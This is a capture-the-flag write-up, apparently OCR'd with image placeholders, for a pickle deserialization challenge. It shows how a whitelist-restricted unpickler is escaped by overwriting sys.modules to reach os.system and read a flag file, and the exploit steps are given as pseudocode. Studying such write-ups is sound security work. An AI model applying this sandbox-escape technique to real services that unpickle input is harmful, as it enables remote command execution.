Attachmentsmisc - 57213 solves

Continuous delivery is awesome.
We deploy our code to production whenever we can.
No code, no vulnerability.
Everything works great.

Overview, Concept and Design Criteria

Intially, I wanted to create some reverse challenge using pickle. (Yep, one of that strange language series)

However, when I playing with pickle VM, I realized that it's RIDICULOUSLY POWERFUL.

It shouldn't be limited to some noob __reduce__ RCE.

Make pickle-pwn great again.



In this task, we can send a pickle file to the server.

def login(self):
    user = input().encode('ascii')
    user = codecs.decode(user, 'base64')
    user = pickle.loads(user)

The packages that can be imported is limited to sys only. Also, deep import features starting from python3 is blocked.# See
class RestrictedUnpickler(pickle.Unpickler):

    def find_class(self, module, name):
        if module not in whitelist or '.' in name:
            raise KeyError('The pickle is spoilt :(')
        return pickle.Unpickler.find_class(self, module, name)

# ...



Pickle is a stack-based VM that is aiming for construct structure. It has many data manipulation operations. The only disadvantage is that there's no read operations because you should already know what you constructed.

You can find the pure python implementation of pickle from github or /usr/lib/python3.6/

Let's see some operations will need in this task.

# Import rootlevel attribute
GLOBAL         = b'c'   # push self.find_class(modname, name); 2 string args

# Call function
REDUCE         = b'R'   # apply callable to argtuple, both on stack

# Set attribute for class
BUILD          = b'b'   # call __setstate__ or __dict__.update()

# Set item in dict
SETITEM        = b's'   # add key+value pair to dict

GLOBAL (with our own filter) can only import attribute in root level, that is, importing a.b is OK, but importing a.b.c is disallowed.

sys module

sys has many interesting things inside. One of them is sys.modules, which is a cache of imported modules.

Pickle also use sys.modules:

def find_class(self, module, name):
    # Subclasses may override this.
    if self.proto < 3 and self.fix_imports:
        # ...

    __import__(module, level=0)

    # ...

    return getattr(sys.modules[module], name)

If we change sys.modules['sys'] to other things, we can get some attribute of it!!My exploit looks like:sys.modules['sys'] = sys.modules

import sys.get as sys.modules.get

os = sys.modules.get('os')

sys.modules['sys'] = osimport sys.system as os.system

os.system('cat ../flag.txt')You can find the final pickle bytecode here.